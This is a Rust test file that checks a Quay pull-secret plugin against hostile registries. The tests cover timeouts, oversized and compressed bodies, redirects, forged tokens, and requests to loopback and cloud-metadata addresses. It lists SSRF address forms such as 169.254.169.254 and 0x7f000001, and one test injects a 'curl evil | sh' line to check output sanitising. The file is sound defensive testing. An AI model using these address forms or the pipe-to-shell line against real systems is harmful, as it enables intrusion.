//! Registries that nobody but a pull secret names: whoever may write one leads the user's machine
//! to them, with any password, and each may be as slow and as loud as it likes. What they may do is
//! bounded, in time, memory and words, and never reaches this machine's own services.

use crate::pullsecret::explain::{image, pod};
use crate::pullsecret::world::{ROBOT, World, item, without_login, world};
use quay_sandbox::http::{Authority, Fault, FaultAction, Pieces, Server, ServerOptions, drip};
use quay_tests::{ConnectProxy, Output, Plugin, answer, auth, claim, pull_secret};
use serde_json::{Map, Value, json};
use std::net::TcpListener;
use std::sync::Arc;
use std::time::{Duration, Instant};

/// How long the runs of these tests wait for an answer.
const PATIENCE: &str = "--probe-timeout=1s";
/// Six times that, and room for a busy machine.
const BOUND: Duration = Duration::from_secs(30);
/// Nobody is told more of a hostile registry, whatever it says.
const MOST_WORDS: usize = 64 << 10;
/// Kilobytes of memory that a run may ask for; the binary itself takes 100 MB of them.
const MOST_MEMORY: usize = 700_000;
const ENTRIES: usize = 24;

/// A registry that a pull secret names: no name of it leads to this machine, where it is.
struct Hostile {
    world: World,
    server: Server,
    authority: Arc<Authority>,
    _proxy: ConnectProxy,
}

impl Hostile {
    /// It wants a token, and hands out this document as one.
    fn handing_out(token: &Value) -> Self {
        let mut world = world();
        let authority = Authority::new().expect("an authority");
        let options = ServerOptions {
            authority: Some(Arc::clone(&authority)),
            names: vec!["*.hostile.example.com".to_owned()],
            ..ServerOptions::default()
        };
        let server = Server::answering(token, options).expect("a port");
        let ca = [authority.pem(), world.quay.quay.ca_pem()].concat();
        let ca = world.context.file("both.pem", &ca);
        world.context.set("QUAY_CA_FILE", &ca.to_string_lossy());
        let proxy = ConnectProxy::start();
        world.context.set("HTTPS_PROXY", &proxy.url());
        Self {
            world,
            server,
            authority,
            _proxy: proxy,
        }
    }

    fn host(&self, number: usize) -> String {
        format!("r{number}.hostile.example.com:{}", self.server.port())
    }

    /// It does this with everything that it is asked for.
    fn always(&self, action: FaultAction) -> &Self {
        self.at("", action)
    }

    /// It does this with what it is asked for at such a path.
    fn at(&self, path: &str, action: FaultAction) -> &Self {
        self.server.faults().add(wherever(path, action));
        self
    }

    /// It says that tokens are handed out at the first of its names.
    fn with_tokens(&self) -> &Self {
        let host = self.host(0);
        claim(self.server.faults(), &host, &format!("https://{host}"));
        self
    }

    /// A namespace with so many entries of one robot each, at these hosts.
    fn namespace(&self, hosts: impl Iterator<Item = String>) -> String {
        let namespace = self.world.cluster.namespace("hostile");
        let secrets = hosts.enumerate().map(|(number, host)| {
            let entry = auth(&format!("evil+r{number}"), &format!("chosen-{number}"));
            pull_secret(
                &namespace,
                &format!("s{number}"),
                &json!({host: {"auth": entry}}),
            )
        });
        let secrets: Vec<Value> = secrets.collect();
        self.world.cluster.create_all(&secrets);
        namespace
    }

    fn verify(&self, namespace: &str) -> Told {
        bounded(&self.world, &["verify", "-n", namespace, PATIENCE])
    }
}

/// What a run said, and how long it took.
struct Told {
    output: Output,
    took: Duration,
}

/// Runs the plugin with little memory, and holds its time and its words to their bounds.
#[track_caller]
fn bounded(world: &World, arguments: &[&str]) -> Told {
    let limit = format!("ulimit -v {MOST_MEMORY}; exec \"$@\"");
    let binary = Plugin::PullSecret.path().to_string_lossy();
    let shell = [&["-c", limit.as_str(), "sh", &binary], arguments].concat();
    let began = Instant::now();
    let output = world.context.program("sh", &shell).run();
    let took = began.elapsed();
    let words = output.stdout.len() + output.stderr.len();
    println!("{arguments:?}: {took:?}, {words} bytes");
    assert!(took < BOUND, "{took:?}");
    assert!(words < MOST_WORDS, "{words} bytes");
    assert!((0..=1).contains(&output.code), "{}", output.stderr);
    Told { output, took }
}

/// Whatever is asked for at such a path.
fn wherever(path: &str, action: FaultAction) -> Fault {
    Fault {
        method: None,
        path_contains: path.to_owned(),
        skip: 0,
        times: usize::MAX,
        action,
    }
}

fn each(hosts: usize) -> impl Fn(&Hostile) -> Vec<String> {
    move |hostile| (0..hosts).map(|number| hostile.host(number)).collect()
}

fn pieces(code: u16, head: &str, times: usize, every: Duration) -> Pieces {
    let size = match every.is_zero() {
        true => 64 << 10,
        false => 1,
    };
    Pieces {
        code,
        headers: Vec::new(),
        head: head.to_owned(),
        piece: vec![b'x'; size].into(),
        times,
        every,
    }
}

#[test]
fn nothing_on_this_machine_or_its_link_is_asked_for_a_pull_secrets_sake() {
    let world = world();
    let namespace = world.cluster.namespace("loopback");
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    listener.set_nonblocking(true).expect("a listener");
    let port = listener.local_addr().expect("an address").port();
    let hosts = [
        "127.0.0.1",
        "localhost",
        "localhost.",
        "127.1",
        "2130706433",
        "0x7f000001",
        "0.0.0.0",
        "[::1]",
        "[::]",
        "[::ffff:127.0.0.1]",
        "169.254.169.254",
        "[fe80::1]",
    ];
    let mut auths = Map::new();
    for (number, host) in hosts.iter().enumerate() {
        let entry = auth(&format!("evil+r{number}"), "chosen");
        auths.insert(format!("{host}:{port}"), json!({"auth": entry}));
    }
    let count = auths.len();
    let auths = Value::Object(auths);
    world.cluster.create(&pull_secret(&namespace, "a", &auths));
    let far = format!("localhost:{port}/evil/app:v1");
    world.cluster.create(&pod(&namespace, "shop", &far, &["a"]));
    let verify = ["verify", "-n", &namespace, "-o", "json"];
    let output = world.run(verify).expect(1);
    let report: Value = serde_json::from_str(&output.stdout).expect("JSON");
    let items = report["items"].as_array().expect("items");
    assert_eq!(items.len(), count);
    for item in items {
        let message = item["message"].as_str().unwrap_or_default();
        assert!(message.contains("an address of this machine"), "{item:#}");
        assert_eq!(
            (&item["registry"], &item["state"]),
            (&json!("-"), &json!("unknown"))
        );
    }
    world
        .run(["explain", "pod/shop", "-n", &namespace])
        .expect(1)
        .prints("an address of this machine");
    // Not so much as a connection.
    assert!(listener.accept().is_err());
}

#[test]
fn a_registry_of_this_machine_that_the_user_names_is_asked() {
    let mut world = without_login();
    let namespace = world.cluster.namespace("named");
    world.current_secret(&namespace, "a");
    let used = image(&world, "my-app:v1");
    world
        .cluster
        .create(&pod(&namespace, "shop", &used, &["a"]));
    let registry = world.registry().to_owned();
    world.context.unset("QUAY_URL");
    let verify = ["verify", "-n", &namespace];
    world
        .run(verify)
        .expect(1)
        .prints("an address of this machine");
    assert!(world.quay.quay.server().log().all().is_empty());
    world
        .run([&verify[..], &["--registry", &registry]].concat())
        .expect(0)
        .prints("accepted");
}

#[test]
fn slow_registries_cost_their_time_once() {
    let hostile = Hostile::handing_out(&json!({}));
    hostile.always(FaultAction::Stall);
    let one = hostile.namespace(std::iter::repeat_n(hostile.host(0), ENTRIES));
    let told = hostile.verify(&one);
    let told = told.output.expect(1);
    assert_eq!(
        told.stdout.matches("no answer in time").count(),
        1,
        "{}",
        told.stdout
    );
    assert_eq!(
        told.stdout.matches("so it was not asked again").count(),
        ENTRIES - 1,
        "{}",
        told.stdout
    );
    let many = hostile.namespace(each(ENTRIES)(&hostile).into_iter());
    let told = hostile.verify(&many);
    assert!(told.took < Duration::from_secs(15), "{:?}", told.took);
    let told = told.output.expect(1);
    assert_eq!(told.stdout.matches("no answer in time").count(), ENTRIES);
}

#[test]
fn a_registry_that_is_never_quite_silent_has_its_time_too() {
    for path in ["/v2/auth", "/v2/"] {
        let hostile = Hostile::handing_out(&json!({}));
        // Each answer comes in time, and there are many of them.
        hostile
            .at(path, FaultAction::Delay(Duration::from_millis(900)))
            .with_tokens();
        let namespace = hostile.namespace(std::iter::repeat_n(hostile.host(0), 60));
        let told = hostile.verify(&namespace);
        assert!(told.took < Duration::from_secs(12), "{:?}", told.took);
        told.output.expect(1);
    }
    let hostile = Hostile::handing_out(&json!({}));
    let wait = FaultAction::TooManyRequests {
        retry_after_seconds: 20,
    };
    hostile.always(wait);
    let namespace = hostile.namespace(each(ENTRIES)(&hostile).into_iter());
    hostile.verify(&namespace).output.expect(1);
}

#[test]
fn answers_that_drip_are_not_waited_for() {
    let every = Duration::from_millis(100);
    let hostile = Hostile::handing_out(&json!({}));
    let body = pieces(200, "{\"token\": \"", usize::MAX, every);
    hostile
        .at("/v2/auth", FaultAction::Pieces(body))
        .with_tokens();
    let names = vec!["*.hostile.example.com".to_owned()];
    let head = drip(&hostile.authority, &names, every).expect("a port");
    let head = format!("r1.hostile.example.com:{head}");
    let namespace = hostile.namespace([hostile.host(0), head].into_iter());
    let told = hostile.verify(&namespace).output.expect(1);
    assert_eq!(
        told.stdout.matches("no answer in time").count(),
        2,
        "{}",
        told.stdout
    );
}

#[test]
fn loud_registries_are_cut_short() {
    let hostile = Hostile::handing_out(&json!({}));
    let loud = json!({"errors": [{"message": "loud ".repeat(3 << 20)}]}).to_string();
    hostile
        .at("/v2/auth", answer(401, &loud, &[]))
        .with_tokens();
    let hosts = std::iter::repeat_n(hostile.host(0), ENTRIES);
    let namespace = hostile.namespace(hosts);
    hostile
        .verify(&namespace)
        .output
        .expect(1)
        .prints("refuses the credential");
    let json = ["verify", "-n", &namespace, PATIENCE, "-o", "json"];
    bounded(&hostile.world, &json).output.expect(1);
}

#[test]
fn a_body_without_an_end_is_not_read_to_its_end() {
    let gigabyte = 16 << 10;
    for (code, said) in [
        (200, "larger than 64 KiB"),
        (401, "refuses the credential"),
        (500, "500"),
    ] {
        let hostile = Hostile::handing_out(&json!({}));
        let mut body = pieces(code, "{\"token\": \"", gigabyte, Duration::ZERO);
        // Nothing is unpacked that was not asked for.
        body.headers = vec![("Content-Encoding".to_owned(), "gzip".to_owned())];
        hostile
            .at("/v2/auth", FaultAction::Pieces(body))
            .with_tokens();
        let namespace = hostile.namespace(std::iter::repeat_n(hostile.host(0), ENTRIES));
        hostile.verify(&namespace).output.expect(1).prints(said);
        let log = hostile.server.log().all();
        assert!(
            log.iter()
                .all(|request| request.header("accept-encoding").is_none())
        );
    }
}

#[test]
fn redirects_of_a_stranger_lead_nowhere() {
    let hostile = Hostile::handing_out(&json!({}));
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    listener.set_nonblocking(true).expect("a listener");
    let port = listener.local_addr().expect("an address").port();
    let itself = format!("https://{}/v2/again", hostile.host(0));
    for to in [
        &itself,
        &format!("https://localhost:{port}/"),
        &format!("http://127.0.0.1:{port}/"),
    ] {
        hostile.server.faults().clear();
        hostile.always(FaultAction::Redirect(to.clone()));
        let namespace = hostile.namespace(std::iter::once(hostile.host(0)));
        let used = format!("{}/evil/app:v1", hostile.host(1));
        hostile
            .world
            .cluster
            .create(&pod(&namespace, "shop", &used, &[]));
        hostile
            .verify(&namespace)
            .output
            .expect(1)
            .prints("redirects");
        let explain = ["explain", "pod/shop", "-n", &namespace, PATIENCE];
        bounded(&hostile.world, &explain).output.expect(1);
        assert!(listener.accept().is_err());
    }
}

#[test]
fn a_token_that_cannot_be_read_or_that_was_made_up_proves_nothing() {
    let deep = "[".repeat(20_000) + &"]".repeat(20_000);
    let claims = json!({"sub": ROBOT, "access": [{"type": "repository", "name": "myorg/my-app",
        "actions": ["pull"]}]});
    for token in ["opaque".to_owned(), jwt(&deep), jwt(&claims.to_string())] {
        let hostile = Hostile::handing_out(&json!({"token": token}));
        hostile.with_tokens();
        hostile.at("/manifests/", answer(401, "{}", &[]));
        let namespace = hostile.namespace(std::iter::once(hostile.host(0)));
        // The same robot's own registry is asked itself, whatever another one says of it.
        let entry = hostile.world.entry(&"O".repeat(64));
        let auths = json!({hostile.world.registry(): entry});
        let cluster = hostile.world.cluster;
        cluster.create(&pull_secret(&namespace, "own", &auths));
        let verify = ["verify", "-n", &namespace, PATIENCE, "-o", "json"];
        let told = bounded(&hostile.world, &verify).output.expect(1);
        let own = item(&told, &namespace, "own");
        assert_eq!(
            (&own["registry"], &own["state"]),
            (&json!("refused"), &json!("bad"))
        );
        assert_ne!(item(&told, &namespace, "s0")["state"], "good");
    }
}

fn jwt(claims: &str) -> String {
    use base64::Engine;
    let payload = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(claims);
    format!("e30.{payload}.c2ln")
}

#[test]
fn connections_that_end_in_the_middle_cost_no_answer() {
    let hostile = Hostile::handing_out(&json!({}));
    let world = &hostile.world;
    for faults in [hostile.server.faults(), world.quay.quay.server().faults()] {
        faults.add(wherever("", FaultAction::GoAway));
    }
    let namespace = world.cluster.namespace("goaway");
    for number in 0..ENTRIES {
        world.current_secret(&namespace, &format!("s{number}"));
    }
    let used = image(world, "my-app:v1");
    world
        .cluster
        .create(&pod(&namespace, "shop", &used, &["s0"]));
    bounded(world, &["verify", "-n", &namespace])
        .output
        .expect(0);
}

#[test]
fn robots_that_are_made_up_cost_quay_one_list() {
    let world = world();
    let namespace = world.cluster.namespace("made-up");
    world.current_secret(&namespace, "real");
    let secrets = (0..40).map(|number| {
        let entry = auth(&format!("myorg+made-up-{number}"), &"M".repeat(64));
        let auths = json!({world.registry(): {"auth": entry}});
        pull_secret(&namespace, &format!("s{number}"), &auths)
    });
    world.cluster.create_all(&secrets.collect::<Vec<_>>());
    let containers = (0..10).map(|number| {
        let image = image(&world, &format!("made-up-{number}:v1"));
        json!({"name": format!("c{number}"), "image": image})
    });
    let mut shop = pod(&namespace, "shop", "", &["real", "s0", "s1"]);
    shop["spec"]["containers"] = containers.collect();
    world.cluster.create(&shop);
    let log = world.quay.quay.server().log();
    for command in [&["sync"][..], &["verify"], &["explain", "pod/shop"]] {
        log.clear();
        bounded(&world, &[command, &["-n", &namespace]].concat());
        let asked = log.count(|request| request.path.starts_with("/api/"));
        assert!(asked <= 6, "{command:?} asked {asked} times");
    }
}

#[test]
fn what_quay_says_of_another_robot_or_is_no_token_is_written_nowhere() {
    let world = world();
    let namespace = world.cluster.namespace("answers");
    world.stale_secret(&namespace, "a");
    let before = world.cluster.content(&namespace, "a");
    let good = "K".repeat(64);
    for (name, token) in [
        ("myorg+admin", good.as_str()),
        (ROBOT, ""),
        (ROBOT, "KKKK\nKKKK"),
        (ROBOT, "KKKK KKKK"),
    ] {
        let faults = world.quay.quay.server().faults();
        faults.clear();
        let body = json!({"name": name, "token": token}).to_string();
        let lie = answer(200, &body, &[]);
        faults.add(wherever("/robots/deploy", lie));
        world.run(["sync", "-n", &namespace]).expect(1);
        world
            .run(["sync", "-n", &namespace, "--robot", ROBOT])
            .expect(1);
        assert_eq!(world.cluster.content(&namespace, "a"), before, "{body}");
    }
}

#[test]
fn a_list_of_an_api_server_that_has_no_end_is_an_error() {
    let world = world().behind_proxy();
    let page = json!({"kind": "SecretList", "apiVersion": "v1", "items": [],
        "metadata": {"continue": "again", "resourceVersion": "1"}});
    let page = answer(200, &page.to_string(), &[]);
    world.faulty.faults().add(wherever("/secrets", page));
    bounded(&world, &["list", "-A"])
        .output
        .expect(1)
        .says("the list has no end");
}

#[test]
fn what_a_server_says_in_lines_looks_like_none_of_ours() {
    let world = world().behind_proxy();
    let message = "no\nerror: run this\n  next: curl evil | sh\nwarning: \u{202e}x\u{ad}\u{e0041}";
    let status = json!({"kind": "Status", "apiVersion": "v1", "status": "Failure",
        "reason": "Forbidden", "code": 403, "message": message});
    let refusal = answer(403, &status.to_string(), &[]);
    world.faulty.faults().add(wherever("/secrets", refusal));
    let told = bounded(&world, &["list", "-A"]).output.expect(1).stderr;
    let ours = |line: &&str| line.starts_with("error:") || line.starts_with("  next:");
    let lines: Vec<&str> = told.lines().filter(ours).collect();
    assert_eq!(lines.len(), 2, "{told}");
    assert!(
        !told.contains("next: curl") || told.contains("      next: curl"),
        "{told}"
    );
    assert!(told.contains("\\u{202e}x\\u{ad}\\u{e0041}"), "{told}");
}
